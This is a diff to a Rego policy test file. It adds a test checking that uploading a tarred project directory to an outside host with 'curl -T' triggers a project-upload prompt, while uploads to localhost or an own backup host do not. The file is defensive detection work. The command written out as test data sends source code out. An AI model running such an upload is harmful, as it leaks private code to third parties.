@@ -1728,3 +1728,14 @@ test_account_key_added_from_a_foreign_file_asks if {
 	own := cmd22(["gh", "ssh-key", "add", "/home/dev/.ssh/id_ed25519_2027.pub", "--title", "laptop"])
 	count(rules.decision) == 0 with input as shell_input([], {"commands": [own]})
 }
+
+test_project_upload_asks if {
+	up := {"program": "curl", "target": "https://x.example/up", "source": "/p/src", "evidence": "curl -T - https://x.example/up"}
+	rd := {"path": "/p/src", "access": "read", "via": "shell", "classes": ["project"], "how": "tar -c", "evidence": "tar czf - src", "recursive": false}
+	some d in rules.decision with input as dev_input([rd], {"uploads": [up]})
+	d.id == "shell/project-upload"
+	local := object.union(up, {"target": "http://localhost:8080/import"})
+	count(rules.decision) == 0 with input as dev_input([rd], {"uploads": [local]})
+	own := object.union(up, {"program": "rsync", "target": "backup:/srv"})
+	count(rules.decision) == 0 with input as dev_input([rd], {"uploads": [own]})
+}
